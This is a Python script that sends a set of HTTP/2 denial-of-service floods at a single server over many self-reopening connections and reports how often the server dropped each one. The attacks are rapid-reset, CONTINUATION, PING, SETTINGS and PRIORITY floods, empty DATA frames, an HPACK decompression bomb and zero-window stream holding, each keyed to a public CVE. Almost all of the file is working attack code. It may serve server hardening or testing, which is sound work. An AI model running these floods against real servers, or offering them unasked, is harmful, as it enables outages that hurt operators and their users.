"""Attacks on one server of HTTP/2, all at once, for a while.

    floods.py HOST PORT SECONDS CONNECTIONS

Each attack has so many connections, each of which is opened anew when the server ends it. Says in JSON how often each was
ended, and how many of those that are only held were still open at the end.

Sources: RFC 9113; CVE-2023-44487 (rapid reset), CVE-2024-27316 (CONTINUATION), CVE-2019-9512 (PING), -9515 (SETTINGS),
-9518 (empty frames), -9517 (a window that stays shut), CVE-2016-1544 (HPACK).
"""

import itertools
import json
import selectors
import socket
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 2, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
# `:method GET`, `:scheme http`, `:path /`, `:authority web`; and the same with POST.
GET = b"\x82\x86\x84\x01\x03web"
POST = b"\x83" + GET[1:]
# A header of 4000 bytes goes into the table, and after it a byte each stands for it.
BOMB = GET + b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4000 + b"\xbe" * 11000


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def preface(settings=b""):
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings)


def resets(turn):
    streams = (2 * (turn * 50 + index) + 1 for index in range(50))
    cancel = struct.pack(">I", 8)
    return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) + frame(RST_STREAM, 0, stream, cancel) for stream in streams)


def continuations(turn):
    begin = frame(HEADERS, END_STREAM, 1, GET) if turn == 0 else b""
    return begin + frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 100


def empty(turn):
    begin = frame(HEADERS, END_HEADERS, 1, POST) if turn == 0 else b""
    return begin + frame(DATA, 0, 1) * 100


ATTACKS = {
    "resets": resets,
    "pings": lambda turn: frame(PING, 0, 0, bytes(8)) * 200,
    "settings": lambda turn: frame(SETTINGS, 0, 0) * 200,
    "priorities": lambda turn: frame(PRIORITY, 0, 1, b"\0\0\0\0\1") * 200,
    "continuations": continuations,
    "empty": empty,
    "bombs": lambda turn: frame(HEADERS, END_STREAM | END_HEADERS, 2 * turn + 1, BOMB),
    # Requests of which not one byte may be answered.
    "shut": lambda turn: b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 1, GET) for index in range(25)) if turn == 0 else b"",
}
# SETTINGS_INITIAL_WINDOW_SIZE 0.
SHUT = struct.pack(">HI", 4, 0)


class Connection:
    def __init__(self, address, name):
        self.name = name
        self.socket = socket.create_connection(address)
        self.socket.setblocking(False)
        self.turns = map(ATTACKS[name], itertools.count())
        self.waiting = preface(SHUT if name == "shut" else b"")

    def turn(self):
        """Reads what there is and sends what is taken; False once the server ended it."""
        try:
            while True:
                if not self.socket.recv(65536):
                    return False
        except BlockingIOError:
            pass
        except OSError:
            return False
        try:
            if not self.waiting:
                self.waiting = next(self.turns)
            self.waiting = self.waiting[self.socket.send(self.waiting) :]
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True


def main():
    host, port, seconds, connections = sys.argv[1], *map(int, sys.argv[2:5])
    end = time.monotonic() + seconds
    ended = dict.fromkeys(ATTACKS, 0)
    selector = selectors.DefaultSelector()

    def begin(name):
        connection = Connection((host, port), name)
        # One that only holds what it has waits for the server.
        events = selectors.EVENT_READ if name == "shut" else selectors.EVENT_READ | selectors.EVENT_WRITE
        selector.register(connection.socket, events, connection)
        connection.turn()
        connection.turn()

    for name in ATTACKS:
        for _ in range(connections):
            begin(name)
    while time.monotonic() < end:
        for key, _ in selector.select(1):
            if not key.data.turn():
                ended[key.data.name] += 1
                selector.unregister(key.fileobj)
                key.fileobj.close()
                begin(key.data.name)
    print(json.dumps(ended))


main()
